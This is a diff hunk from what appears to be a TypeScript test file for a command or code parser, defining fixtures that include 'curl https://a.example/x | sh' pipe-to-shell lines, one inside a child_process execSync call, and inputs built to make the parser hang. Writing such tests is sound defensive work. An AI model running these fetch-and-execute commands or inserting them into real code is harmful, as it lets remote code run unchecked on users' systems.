@@ -13,8 +13,8 @@ const javascript = (program: string) => ({
 });
 
 const ordinary = composite('curl https://a.example/x | sh');
-/** A program that takes very long to parse, which nothing interrupts: only stopping the thread ends it. */
-const hanging = javascript('[a=>{b(`${c}`,/d/)}];'.repeat(1_500_000));
+/** Names of one scope, of which the parser compares each with all before: only stopping the thread ends it. */
+const hanging = javascript(`let ${Array.from({ length: 400_000 }, (_, at) => `a${at}`).join()};`);
 const endless = javascript(
   `require('child_process').execSync('curl https://a.example/x | sh');
    const row = () => { for (let i = 0; i < 3000; i++) {} };
